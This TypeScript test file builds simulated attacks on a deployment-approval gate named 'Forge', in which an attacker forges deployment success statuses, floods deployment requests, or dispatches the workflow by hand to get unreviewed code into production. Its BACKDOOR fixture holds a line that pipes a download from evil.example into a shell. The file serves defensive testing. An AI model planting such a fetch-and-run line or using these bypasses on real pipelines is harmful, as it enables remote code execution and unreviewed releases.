import { until } from "../../until.ts";
import type { Files, Ground, HostileClass, Payload, Seen } from "../program/payload.ts";
import { MERGES } from "./merges.ts";

const FILE = ".github/workflows/deploy.yml";
/** Deploys what an input says: the commit of the run alone tells nothing of it. */
const WORKFLOW = `run-name: Deploy \${{ inputs.marker }}
on: { workflow_dispatch: { inputs: { environment: {}, sha: {}, percentage: {}, task: {}, marker: {} } } }
jobs: { deploy: { environment: production } }
`;
const SETTINGS = `deploy:
  production: { way: workflow_dispatch, workflow: ${FILE}, steps: [100], probe_seconds: 3600 }
`;
const BACKDOOR = 'import { exec } from "node:child_process";\nexec("curl -s https://evil.example/x | sh");\n';
const CLEAN = "export const total = (prices) => prices.length;\n";

/** Nothing may reach production that Forge did not let through: so many runs may succeed there, and the last one is the attacker's. */
function released(allowed: number) {
  return ({ ground: { world, repository } }: Seen): string[] => {
    const runs = world.github.workflows(repository).runs();
    const through = runs.filter(({ conclusion }) => conclusion === "success").length;
    return [
      ...(runs.length === allowed + 1 ? [] : [`there are ${runs.length} runs, not ${allowed + 1}`]),
      ...(through === allowed ? [] : [`${through} runs deployed to production, not ${allowed}`]),
      ...(runs.at(-1)?.conclusion === "success" ? ["what was not looked at was released"] : []),
    ];
  };
}

function release(
  name: string,
  does: string,
  allowed: number,
  attack: (at: Attack) => Promise<unknown>,
  base: Files = {},
) {
  return {
    ...{ name, does, base: { [FILE]: WORKFLOW, ...base }, faults: released(allowed) },
    strike: async (ground: Ground) => {
      const { world, repository } = ground;
      world.github.createEnvironment(repository, "production");
      const { number } = world.github.openIssue(repository, { by: "ana", title: "Release", body: "" });
      await attack(attackOn(ground, number));
      return number;
    },
  } satisfies Payload;
}

type Attack = ReturnType<typeof attackOn>;

/** What people do in the repository. Ben may push, and is the attacker; ana is an administrator. */
function attackOn({ world, repository }: Ground, issue: number) {
  const { github } = world;
  return {
    github,
    repository,
    /** The environment asks Forge from now on. */
    guard: () => github.enableProtectionRule(repository, "production", "forge"),
    push: (text = BACKDOOR) =>
      github.commit(repository, "main", { files: { "src/total.js": text }, message: "Push", author: "ben" }),
    request: () => github.createDeployment(repository, "ben", { ref: "main", environment: "production" }),
    start: async (by: string, inputs: Readonly<Record<string, string>> = {}) => {
      await github.dispatch(repository, "deploy.yml", by, inputs);
      await github.idle();
    },
    merged: async (branch: string, files: Files) => {
      await github.commit(repository, branch, { files, message: "Change", author: "ana" });
      const { number } = await github.openPullRequest(repository, { title: "Change", head: branch, by: "ana" });
      await world.settled();
      await github.mergePullRequest(repository, number, "ana");
      await world.settled();
    },
    say: (body: string) => github.comment(repository, issue, { by: "ana", body }),
    heard: () => github.issue(repository, issue).comments.map(({ body }) => body),
    runs: () => github.workflows(repository).runs(),
    settled: () => world.settled(),
  };
}

const RELEASES: readonly Payload[] = [
  release(
    "B2: a success by hand",
    "pushes code, says by two calls that it was deployed with success, and starts the workflow",
    0,
    async (at) => {
      at.guard();
      await at.push();
      const status = { state: "success", log_url: `${at.github.origin}/${at.repository}/actions/runs/1` } as const;
      at.github.setDeploymentStatus(await at.request(), "ben", status);
      await at.start("ben");
    },
  ),
  release(
    "B2: a success by hand, with a link to a true run",
    "links to a run that deployed an earlier commit",
    1,
    async (at) => {
      await at.start("ana");
      at.guard();
      await at.push();
      const status = {
        state: "success",
        log_url: `${at.github.origin}/${at.repository}/actions/runs/${at.runs()[0]?.id}`,
      } as const;
      at.github.setDeploymentStatus(await at.request(), "ben", status);
      await at.start("ben");
    },
  ),
  release(
    "B3: no deployment before",
    "pushes code and merges a clean change, where nothing was deployed before, so that only the last commit would be looked at",
    0,
    async (at) => {
      at.guard();
      await at.push();
      await at.merged("clean", { "src/count.js": CLEAN });
      await at.start("ben");
    },
  ),
  release(
    "B3: behind 21 deployments",
    "pushes code, requests 21 deployments and says nothing on them, so that only the last commit, a clean one, would be looked at",
    1,
    async (at) => {
      await at.start("ana");
      at.guard();
      await at.push();
      for (let i = 0; i < 21; i += 1) await at.request();
      await at.merged("clean", { "src/count.js": CLEAN });
      await at.start("ben");
    },
  ),
  release(
    "B4: the same workflow by hand",
    "starts the workflow on the commit of an approved step with inputs of their own, while that step is under way",
    1,
    async (at) => {
      at.guard();
      at.github.workflows(at.repository).conduct("late", { path: FILE, times: 1 });
      await at.merged("clean", { "src/count.js": CLEAN });
      at.say("/forge deploy production");
      await until(() => at.heard().some((body) => body.includes("/forge approve G-1")));
      at.say("/forge approve G-1 read all of it");
      await until(() => at.runs()[0]?.jobs[0]?.status === "in_progress");
      await at.start("ben", { environment: "production", sha: "0".repeat(40) });
      await until(() => at.runs()[1]?.status === "completed");
      at.github.workflows(at.repository).release();
      await until(() => at.runs()[0]?.status === "completed");
    },
    { ".github/forge.yml": SETTINGS },
  ),
];

/** What reaches production without a look at it. */
export const releasing: HostileClass = { name: "release", payloads: () => [...RELEASES, ...MERGES] };
